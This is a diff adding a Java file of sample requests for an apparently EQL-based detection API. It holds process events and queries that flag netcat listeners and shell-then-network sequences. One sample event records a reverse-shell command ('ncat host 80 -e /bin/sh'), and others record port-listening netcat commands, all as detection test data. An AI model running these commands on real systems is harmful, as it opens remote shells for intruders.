@@ -1,0 +1,71 @@
+package io.eqlair.api;
+
+/** Requests to try, shown with the API's document. */
+final class Examples {
+
+    /** Netcat opens a port on a Linux host. */
+    static final String LINUX_RULE_FIRES = """
+            {
+              "@timestamp": "2026-01-15T09:30:00.000Z",
+              "event": {"category": ["process"], "type": ["start"], "action": "exec"},
+              "host": {"name": "web-1", "os": {"type": "linux"}},
+              "user": {"name": "www-data"},
+              "process": {
+                "name": "nc",
+                "args": ["nc", "-nlvp", "4444"],
+                "parent": {"name": "bash"}
+              }
+            }""";
+
+    /** A shell starts netcat in a container. */
+    static final String CONTAINER_RULE_FIRES = """
+            {
+              "@timestamp": "2026-01-15T09:31:00.000Z",
+              "event": {"category": ["process"], "type": ["start"], "action": "exec"},
+              "host": {"name": "node-7", "os": {"type": "linux"}},
+              "container": {"id": "3f1a9c"},
+              "process": {
+                "name": "bash",
+                "args": ["bash", "-c", "nc", "-l", "-p", "9000"],
+                "interactive": true
+              }
+            }""";
+
+    /** Netcat only connects: neither listens nor hands on what it reads. */
+    static final String NOTHING_FIRES = """
+            {
+              "@timestamp": "2026-01-15T09:32:00.000Z",
+              "event": {"category": ["process"], "type": ["start"], "action": "exec"},
+              "host": {"name": "web-1", "os": {"type": "linux"}},
+              "process": {"name": "nc", "args": ["nc", "10.0.0.1", "80"]}
+            }""";
+
+    /** One event to a line, of which the second breaks off. */
+    static final String NDJSON_BATCH = """
+            {"event.category":"process","event.type":"start","event.action":"exec","host.os.type":"linux","process.name":"ncat","process.args":["ncat","host","80","-e","/bin/sh"]}
+            {"event.category":"process","event.type":"start","host.os.type":
+            {"event.category":"process","event.type":"start","event.action":"exec","host.os.type":"linux","process.name":"ls","process.args":["ls","-l"]}
+            """;
+
+    /** A query and two events, of which one matches. */
+    static final String SEARCH = """
+            {
+              "query": "process where process.name in (\\"nc\\", \\"ncat\\") and process.args : \\"-*l*\\"",
+              "events": [
+                {"@timestamp": "2026-01-15T09:30:00Z", "event": {"category": "process"}, "process": {"name": "nc", "args": ["nc", "-l"]}},
+                {"@timestamp": "2026-01-15T09:31:00Z", "event": {"category": "process"}, "process": {"name": "ls", "args": ["ls", "-l"]}}
+              ]
+            }""";
+
+    /** Two events of one host, in order. */
+    static final String SEQUENCE = """
+            {
+              "query": "sequence by host.id with maxspan=1m [process where process.name == \\"bash\\"] [network where true]",
+              "events": [
+                {"@timestamp": "2026-01-15T09:30:00Z", "event": {"category": "process"}, "host": {"id": "h1"}, "process": {"name": "bash"}},
+                {"@timestamp": "2026-01-15T09:30:05Z", "event": {"category": "network"}, "host": {"id": "h1"}, "destination": {"ip": "192.0.2.1"}}
+              ]
+            }""";
+
+    private Examples() {}
+}
